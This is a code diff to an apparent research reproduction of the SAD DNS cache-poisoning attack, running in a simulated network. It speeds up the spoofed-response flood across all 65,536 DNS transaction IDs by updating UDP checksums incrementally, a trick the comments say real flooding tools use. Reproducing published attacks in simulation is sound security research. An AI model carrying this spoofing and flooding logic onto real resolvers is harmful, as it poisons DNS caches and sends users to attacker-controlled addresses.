@@ -23,6 +23,7 @@ The numbers Table 6 reports (hitrate ≈ 0.2%, ≈ 497 triggered queries,
 
 from __future__ import annotations
 
+import struct
 from dataclasses import dataclass
 
 from repro.attacks.base import AttackResult, OffPathAttacker, cache_poisoned
@@ -33,7 +34,15 @@ from repro.dns.nameserver import AuthoritativeServer
 from repro.dns.records import ResourceRecord, TYPE_A, rr_a
 from repro.dns.resolver import RecursiveResolver
 from repro.dns.wire import encode_message
+from repro.netsim.addresses import ip_to_int
+from repro.netsim.checksum import ones_complement_sum
 from repro.netsim.network import Network
+from repro.netsim.packet import (
+    PROTO_UDP,
+    UDP_HEADER_LEN,
+    Ipv4Packet,
+    UdpDatagram,
+)
 
 DNS_PORT = 53
 EPHEMERAL_LOW = 1024
@@ -111,10 +120,8 @@ class SadDnsAttack:
                 steps = int(config.mute_duration / config.mute_interval)
                 bucket.drain(self.network.now)
                 for step in range(1, steps + 1):
-                    scheduler.call_later(
-                        step * config.mute_interval,
-                        lambda: bucket.drain(self.network.now),
-                    )
+                    when = self.network.now + step * config.mute_interval
+                    scheduler.call_at(when, bucket.drain, when)
             self.attacker.packets_sent += config.mute_burst - real
         return config.mute_burst
 
@@ -174,27 +181,61 @@ class SadDnsAttack:
     # -- step 4: the TXID race -----------------------------------------------------
 
     def flood_txids(self, port: int, qname: str) -> bool:
-        """Spoof responses for every TXID to the discovered port."""
+        """Spoof responses for every TXID to the discovered port.
+
+        The 2^16 flood packets differ only in the DNS TXID (the first
+        payload word), so the UDP checksum is maintained incrementally
+        from the TXID-zero sum instead of re-summing every segment —
+        the same trick real flooding tools use.  The packets injected,
+        and the attacker's per-packet IP-ID draws, are bit-identical to
+        encoding each one from scratch.
+        """
         config = self.config
         resolver_ip = self.resolver.address
         ns_ip = self.nameserver.address
+        attacker = self.attacker
+        rng = attacker.rng
         # Encode once; only the two TXID bytes change across the flood.
-        template = bytearray(encode_message(self.attacker.forge_response(
+        template = bytearray(encode_message(attacker.forge_response(
             names.normalise(qname), TYPE_A, 0, self.malicious_records,
         )))
+        seg_len = UDP_HEADER_LEN + len(template)
+        src_int = ip_to_int(ns_ip)
+        dst_int = ip_to_int(resolver_ip)
+        header_zero_csum = struct.pack("!HHHH", DNS_PORT, port, seg_len, 0)
+        # One's-complement sum of pseudo-header + header + TXID-zero
+        # payload; the TXID word is 16-bit aligned, so each TXID adds
+        # straight into the folded sum.
+        base_sum = ones_complement_sum(
+            header_zero_csum + bytes(template),
+            (src_int >> 16) + (src_int & 0xFFFF)
+            + (dst_int >> 16) + (dst_int & 0xFFFF) + 17 + seg_len,
+        )
         for start in range(0, 0x10000, config.txid_flood_chunk):
             for txid in range(start,
                               min(start + config.txid_flood_chunk, 0x10000)):
                 template[0] = txid >> 8
                 template[1] = txid & 0xFF
-                self.attacker.spoof_udp(ns_ip, DNS_PORT, resolver_ip, port,
-                                        bytes(template))
+                total = base_sum + txid
+                total = (total & 0xFFFF) + (total >> 16)
+                checksum = (~total) & 0xFFFF
+                if checksum == 0:
+                    checksum = 0xFFFF
+                payload = bytes(template)
+                segment = struct.pack("!HHHH", DNS_PORT, port, seg_len,
+                                      checksum) + payload
+                attacker.inject_udp(Ipv4Packet(
+                    src=ns_ip, dst=resolver_ip, proto=PROTO_UDP,
+                    payload=segment, ident=rng.pick_txid(),
+                    udp=UdpDatagram(sport=DNS_PORT, dport=port,
+                                    payload=payload),
+                ))
             # Give the chunk a full propagation delay before checking.
             self.network.run(0.012)
-            if cache_poisoned(self.resolver, qname, self.attacker.address):
+            if cache_poisoned(self.resolver, qname, attacker.address):
                 return True
         self.network.run(0.05)
-        return cache_poisoned(self.resolver, qname, self.attacker.address)
+        return cache_poisoned(self.resolver, qname, attacker.address)
 
     # -- full attack -----------------------------------------------------------------
 
